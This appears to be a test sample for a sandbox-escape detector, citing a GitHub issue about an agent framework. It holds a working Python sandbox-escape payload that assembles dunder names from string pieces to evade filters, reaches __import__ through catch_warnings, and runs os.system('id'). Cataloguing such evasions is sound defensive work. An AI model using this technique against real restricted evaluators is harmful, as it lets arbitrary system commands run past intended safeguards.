# Source: https://github.com/wanxingai/LightAgent/issues/100 (runtime string construction, character concatenation)
# Family: attr-in-string
# What: getattr with a dunder name assembled from pieces
g = getattr
k = g((), "__cla" + "ss__")
b = g(k, "__ba" + "se__")
for c in g(b, "__subcla" + "sses__")():
    if c.__name__ == "catch_warnings":
        c()._module.__builtins__["__import__"]("os").system("id")
